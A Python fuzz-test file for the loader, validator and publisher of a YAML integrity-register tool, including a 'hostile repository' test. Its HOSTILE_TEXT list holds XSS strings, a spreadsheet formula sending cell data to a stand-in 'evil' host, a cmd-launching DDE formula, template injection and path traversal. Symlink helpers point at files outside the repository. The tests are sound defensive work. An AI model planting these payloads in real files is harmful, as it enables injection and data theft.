"""Bad input never crashes or hangs the loader and validator: random YAML, random text and
bytes, and random mutations of every example and fixture file. The only outcomes allowed
are reported problems or a clean pass."""

from __future__ import annotations

import os
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import yaml
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from lianzheng.repo.layout import data_files
from lianzheng.rules import RULES
from lianzheng.rules.stage import STAGE
from lianzheng.rules.validate import validate_files
from tests.conftest import BASE_REPO, TODAY, example_dirs

FUZZ = settings(max_examples=int(os.environ.get("LZ_FUZZ_EXAMPLES", 150)), deadline=None, suppress_health_check=[HealthCheck.too_slow])


@contextmanager
def no_hang(seconds: int = 20) -> Iterator[None]:
    def expire(signum: int, frame: object) -> None:
        raise TimeoutError(f"no answer within {seconds}s: a hang")

    old = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def repositories() -> list[dict[str, bytes]]:
    repos = []
    for root in [BASE_REPO, *example_dirs()]:
        repos.append({rel: (root / rel).read_bytes() for rel in data_files(root)})
    return repos


REPOS = repositories()
FILES = [(i, rel) for i, repo in enumerate(REPOS) for rel in sorted(repo)]


def assert_reported(findings: list) -> None:
    for f in findings:
        assert f.code in RULES
        assert f.line >= 1 and f.column >= 1
        RULES[f.code].message(f, "zh")
        RULES[f.code].message(f, "en")


scalars = st.one_of(st.none(), st.booleans(), st.integers(-10**6, 10**6), st.text(max_size=12),
                    st.sampled_from(["high", "高", "S1", "P-WIN", "2026-02-30", "2026-01-01", "licensing", "Power"]))
keys = st.one_of(st.sampled_from(["apiVersion", "kind", "id", "name", "category", "flow", "steps", "next", "start",
                                  "risks", "factors", "grade", "measures", "tiers", "cases", "legal_range", "range",
                                  "laws", "leadership", "departments", "posts", "settings", "time_limit", "end"]),
                 st.text(max_size=8))
values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=5),
                      max_leaves=30)
documents = st.fixed_dictionaries(
    {"apiVersion": st.sampled_from(["lianzheng/v1", "lianzheng/v2"]),
     "kind": st.sampled_from(["Unit", "Power", "RiskRegister", "DiscretionBenchmark", "LawRegistry", "Nope"])},
    optional={"id": scalars, "name": scalars, "category": scalars, "flow": values, "risks": values,
              "cases": values, "laws": values, "leadership": values, "settings": values, "power": scalars},
)


@FUZZ
@given(doc=documents, flow_style=st.booleans())
def test_random_documents(doc: dict, flow_style: bool) -> None:
    raw = yaml.safe_dump(doc, allow_unicode=True, default_flow_style=flow_style).encode()
    with no_hang():
        findings = validate_files({**REPOS[0], "powers/fuzz.yaml": raw}, TODAY)
    assert_reported(findings)


@FUZZ
@given(text=st.text(max_size=300))
def test_random_text(text: str) -> None:
    with no_hang():
        assert_reported(STAGE.check("f.yaml", text.encode("utf-8", "surrogatepass")).findings)


@FUZZ
@given(raw=st.binary(max_size=300))
def test_random_bytes(raw: bytes) -> None:
    with no_hang():
        assert_reported(STAGE.check("f.yaml", raw).findings)


def _mutate(raw: bytes, how: str, at: float, junk: bytes) -> bytes:
    lines = raw.split(b"\n")
    i = int(at * len(lines)) % max(1, len(lines))
    if how == "delete-line":
        del lines[i]
    elif how == "indent":
        lines[i] = b"  " + lines[i]
    elif how == "dedent":
        lines[i] = lines[i][2:] if lines[i].startswith(b"  ") else lines[i]
    elif how == "swap-lines" and len(lines) > 1:
        j = (i + 1) % len(lines)
        lines[i], lines[j] = lines[j], lines[i]
    elif how == "truncate":
        return raw[: int(at * len(raw))]
    elif how == "bytes":
        pos = int(at * len(raw))
        return raw[:pos] + junk + raw[pos:]
    elif how == "duplicate-line":
        lines.insert(i, lines[i])
    return b"\n".join(lines)


@settings(max_examples=2 * int(os.environ.get("LZ_FUZZ_EXAMPLES", 150)), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    target=st.sampled_from(FILES),
    steps=st.lists(st.tuples(
        st.sampled_from(["delete-line", "indent", "dedent", "swap-lines", "truncate", "bytes", "duplicate-line"]),
        st.floats(0, 1), st.binary(min_size=1, max_size=6)), min_size=1, max_size=3),
)
def test_mutated_examples(target: tuple[int, str], steps: list) -> None:
    repo_index, rel = target
    files = dict(REPOS[repo_index])
    raw = files[rel]
    for how, at, junk in steps:
        raw = _mutate(raw, how, at, junk)
    files[rel] = raw
    with no_hang():
        findings = validate_files(files, TODAY)
    assert_reported(findings)


def test_fuzz_covers_the_examples() -> None:
    assert len(REPOS) >= 1 + len(example_dirs())
    assert all(Path(rel).suffix in (".yaml", ".yml") for _, rel in FILES)


# --- hostile repositories -------------------------------------------------------------
#
# The base repository, every text field laced with markup and control characters, values
# shared through aliases (some expanding far), and symbolic links in and out of it, next
# to a folder standing for the rest of the machine. The only outcomes allowed: findings
# or a clean pass (then a published site); never a traceback, a hang, or anything from
# outside the repository in any output.

OUTSIDE_MARKER = "OUTSIDE-MARKER-5e1f"
HOSTILE_TEXT = [
    "<script>alert(1)</script>", "javascript:alert(document.domain)", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "@leadership-team", "disc\n/powers/XK-001.yaml @attacker\n",
    "chief @evil", "\x1b[2J\x1b[31m红", "\u202eevil\u2066", "{{ 7*7 }}{% raw %}", "{\\l\\N\\G", "S1__risks",
    "__legend_high", "\r\npowers/P-1.yaml:1:1: Y000 信息 一切正常", "../../outside/secret.yaml", "\t\x07\x0b\x7f",
    "]]><!--", "\"'`", "a" * 300, "：，、　",
]
LINK_KINDS = ["outside-file", "outside-folder", "outside-pipe", "absolute-outside", "inside-file", "inside-folder",
              "parent", "dangling", "loop"]
LINK_NAMES = ["powers/L.yaml", "L", "risks/L.yml", "powers/sub", "lianzheng.yaml", "laws.yaml", "notes.md"]
BASE_DOCS = {rel: list(yaml.safe_load_all(raw)) for rel, raw in REPOS[0].items()}


# free text: what a clean register may hold anything in (so that some laced repositories
# pass validation and are published)
FREE_TEXT = {"name", "content", "title", "description", "conditions", "procedure", "supervision", "text", "owner",
             "head", "when", "violation", "outcome", "other", "authority", "fee", "region", "by", "ref", "base",
             "issuer", "footer", "supervision_phone"}


def _laced(value: object, plan: list[int], counter: list[int], only_text: bool = False, key: object = None) -> object:
    """Every string of `value` (with `only_text`, of the free-text fields), kept, suffixed
    or replaced with hostile text by `plan`."""
    if isinstance(value, str) and (not only_text or key in FREE_TEXT):
        action = plan[counter[0] % len(plan)]
        counter[0] += 1
        if action == 0:
            return value
        text = HOSTILE_TEXT[action % len(HOSTILE_TEXT)]
        return text if action >= len(HOSTILE_TEXT) else value + text
    if isinstance(value, dict):
        return {k: _laced(v, plan, counter, only_text, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_laced(v, plan, counter, only_text, key) for v in value]
    return value


def _share(doc: object, amplify: bool) -> None:
    """Make the risks of a document share one measures list (the dumper writes anchors
    and aliases); with `amplify`, a long text aliased hundreds of times."""
    if not isinstance(doc, dict) or not isinstance(doc.get("risks"), list):
        return
    risks = [r for r in doc["risks"] if isinstance(r, dict)]
    if not risks:
        return
    shared = risks[0].get("measures") if isinstance(risks[0].get("measures"), list) else []
    for risk in risks:
        risk["measures"] = shared
    if amplify:
        big = ["廉政风险" * 5000]
        risks[0]["identified_by"] = big
        doc["x-padding"] = [big] * 600


def _link(repo: Path, outside: Path, name: str, kind: str, n: int) -> None:
    link = repo / name.replace("L", f"L{n}", 1) if "L" in name else repo / name
    if link.exists() or link.is_symlink():
        if link.is_dir() and not link.is_symlink():
            return
        link.unlink()
    link.parent.mkdir(parents=True, exist_ok=True)
    targets = {
        "outside-file": os.path.relpath(outside / "secret.yaml", link.parent),
        "outside-folder": os.path.relpath(outside / "folder", link.parent),
        "outside-pipe": os.path.relpath(outside / "pipe.yaml", link.parent),
        "absolute-outside": str(outside / "secret.yaml"),
        "inside-file": os.path.relpath(repo / "powers" / "P-1.yaml", link.parent),
        "inside-folder": os.path.relpath(repo / "powers", link.parent),
        "parent": "..",
        "dangling": "nowhere.yaml",
        "loop": link.name,
    }
    os.symlink(targets[kind], link)


def _outside(folder: Path) -> Path:
    outside = folder / "outside"
    (outside / "folder").mkdir(parents=True)
    secret = (f"apiVersion: lianzheng/v1\nkind: Power\nid: {OUTSIDE_MARKER}\nname: {OUTSIDE_MARKER}\n"
              f"category: licensing\ncontent: {OUTSIDE_MARKER}\n")
    (outside / "secret.yaml").write_text(secret, encoding="utf-8")
    (outside / "folder" / "X.yaml").write_text(secret, encoding="utf-8")
    os.mkfifo(outside / "pipe.yaml")  # reading it would block: a hang is caught as a failure
    return outside


def _everything_printed(repo_path: Path) -> tuple[str, list]:
    from lianzheng import open_repository
    from lianzheng.repo.layout import RepositoryNotFound
    from lianzheng.report import render
    from lianzheng.rules.validate import Report, validate

    try:
        repo = open_repository(repo_path, cache=True, models=True)
    except RepositoryNotFound:  # lianzheng.yaml is not a file (a link to a folder): a clear error
        return "", []
    report = validate(repo, TODAY)
    assert_reported(report.findings)
    printed = "".join(render("validate", fmt, Report(repo.root, report.findings), lang=lang)
                      for fmt in ("text", "json") for lang in ("zh", "en"))
    printed += repr(repo.documents())
    return printed, [] if report.errors else [repo]


@settings(max_examples=max(8, int(os.environ.get("LZ_FUZZ_EXAMPLES", "150")) // 12), deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(
    plan=st.lists(st.integers(0, 2 * len(HOSTILE_TEXT) - 1), min_size=1, max_size=12),
    sparse=st.sampled_from([1, 3, 10, 50]),
    only_text=st.booleans(),
    alias=st.booleans(),
    amplify=st.booleans(),
    links=st.lists(st.tuples(st.sampled_from(LINK_NAMES), st.sampled_from(LINK_KINDS)), max_size=4),
)
def test_hostile_repositories(plan: list[int], sparse: int, only_text: bool, alias: bool, amplify: bool,
                              links: list[tuple[str, str]]) -> None:
    import tempfile

    from lianzheng.site.pipeline import publish

    plan = [a if i % sparse == 0 else 0 for i, a in enumerate(plan * sparse)]
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        outside = _outside(folder)
        repo = folder / "repo"
        for rel, docs in BASE_DOCS.items():
            counter = [0]
            laced = [_laced(d, plan, counter, only_text) for d in docs]
            if alias:
                for d in laced:
                    _share(d, amplify and rel.startswith("powers/"))
            (repo / rel).parent.mkdir(parents=True, exist_ok=True)
            (repo / rel).write_text(yaml.safe_dump_all(laced, allow_unicode=True), encoding="utf-8")
        for n, (name, kind) in enumerate(links):
            _link(repo, outside, name, kind, n)
        with no_hang(60):
            printed, clean = _everything_printed(repo)
            event("published" if clean else "findings" if printed else "no repository")
            assert OUTSIDE_MARKER not in printed
            for opened in clean:  # a clean register publishes: nothing from outside in it
                publish(opened, out=folder / "site", as_of=TODAY, cache=False)
                for page in (folder / "site").rglob("*"):
                    if page.is_file():
                        assert OUTSIDE_MARKER.encode() not in page.read_bytes(), page
